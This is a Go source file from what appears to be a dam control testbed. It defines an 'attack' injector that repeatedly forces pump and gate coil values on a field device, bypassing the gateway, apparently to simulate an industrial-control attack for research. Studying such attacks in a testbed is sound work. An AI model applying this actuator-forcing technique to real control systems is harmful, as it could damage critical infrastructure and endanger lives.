// Package attack forces the dam actuators directly on the field device,
// bypassing the gateway.
package attack

import (
	"context"
	"fmt"
	"time"

	"dam-testbed/internal/field"
	"dam-testbed/internal/logging"
	"dam-testbed/internal/loop"
	"dam-testbed/internal/process"
)

// Injector writes fixed actuator values to the field device every period.
// It never reads before writing and does not coordinate with anyone.
type Injector struct {
	dev    field.Device
	pump   bool
	gate   bool
	period time.Duration
}

// NewInjector creates an injector forcing pump and gate on dev.
func NewInjector(dev field.Device, pump, gate bool, period time.Duration) *Injector {
	return &Injector{dev: dev, pump: pump, gate: gate, period: period}
}

// Tick writes the pump coil, then the gate coil.
func (i *Injector) Tick(ctx context.Context) error {
	if err := i.dev.WriteBit(ctx, field.CoilPump, i.pump); err != nil {
		return fmt.Errorf("force pump: %w", err)
	}
	if err := i.dev.WriteBit(ctx, field.CoilGate, i.gate); err != nil {
		return fmt.Errorf("force gate: %w", err)
	}
	return nil
}

// Run repeats Tick until ctx is done or a write fails.
func (i *Injector) Run(ctx context.Context) error {
	log := logging.FromContext(ctx)
	log.Info("starting injector",
		"tick_interval", i.period,
		"pump", process.OnOff(i.pump),
		"gate", process.OpenClosed(i.gate))
	err := loop.Run(ctx, i.period, i.Tick)
	log.Info("stopping injector", "err", err)
	return err
}
